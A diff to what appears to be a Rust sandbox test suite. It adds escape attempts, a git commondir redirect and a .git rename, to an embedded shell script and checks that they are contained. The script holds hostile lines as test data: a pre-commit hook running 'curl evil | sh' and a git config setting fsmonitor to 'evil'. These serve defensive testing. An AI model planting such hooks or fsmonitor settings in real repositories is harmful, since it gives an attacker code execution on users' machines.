@@ -248,6 +248,8 @@ try npm npm test --silent
 try git-hook sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
 try git-config sh -c 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config'
 try git-commit sh -c 'git add file && git -c safe.directory="*" -c user.name=t -c user.email=t@t commit -qm sandboxed'
+try git-commondir sh -c 'mkdir .git/c && printf "[core]\\n\\tfsmonitor = evil\\n" > .git/c/config && echo c > .git/commondir'
+try git-rename mv .git .git-moved
 try setuid chmod u+s file
 try setgid-create python3 -c 'import os; os.open("made", os.O_CREAT | os.O_WRONLY, 0o2755)'
 ipcmk -Q >/dev/null && echo "ipc queues $(ipcs -q | grep -c '^0x')"
@@ -258,7 +260,7 @@ echo "npm-home $(cat npm-out.txt)""#,
         format!(
             "id {uid}\nuser {name} {name}\nxdg unset\nbashrc denied\nprofile denied\nother-project denied\n\
              project ok\nown-home ok\ntmp ok\nmake ok\nnpm ok\ngit-hook denied\ngit-config denied\ngit-commit {commit}\n\
-             setuid denied\nsetgid-create denied\nipc queues 1\n",
+             git-commondir {commit}\ngit-rename denied\nsetuid denied\nsetgid-create denied\nipc queues 1\n",
             name = if uid == 0 { "root".to_owned() } else { user.name.clone() },
             // Root without capabilities cannot write the user's own .git
             // (0755): permissions, not sbx.
@@ -308,6 +310,25 @@ echo "npm-home $(cat npm-out.txt)""#,
         assert_eq!(host_queues(), queues_before, "the sandbox's message queue ended with its IPC namespace");
         assert!(!proj.join("made").exists(), "a set-group-ID file was made");
         assert!(!std::fs::read_to_string(proj.join(".git/config")).expect("config").contains("evil"));
+        // What the command wrote elsewhere in .git stayed in its overlay
+        // (and is named); its commit is the repository's.
+        assert!(!proj.join(".git/commondir").exists() && !proj.join(".git/c").exists(), "{}", describe(&out));
+        assert!(proj.join(".git").is_dir() && !proj.join(".git-moved").exists());
+        if uid != 0 {
+            assert!(stderr(&out).contains(".git/c, .git/commondir in "), "{}", describe(&out));
+            let log = Command::new("git")
+                .args(["-c", "safe.directory=*", "log", "--format=%s"])
+                .current_dir(&proj)
+                .output()
+                .expect("git log");
+            assert_eq!(String::from_utf8_lossy(&log.stdout), "sandboxed\n", "{}", describe(&log));
+            let status = Command::new("git")
+                .args(["-c", "safe.directory=*", "status", "--porcelain", "--", "file"])
+                .current_dir(&proj)
+                .output()
+                .expect("git status");
+            assert_eq!(String::from_utf8_lossy(&status.stdout), "", "the index came back: {}", describe(&status));
+        }
         for f in ["file", "out.txt", "npm-out.txt", "made"] {
             let _ = std::fs::remove_file(proj.join(f));
         }
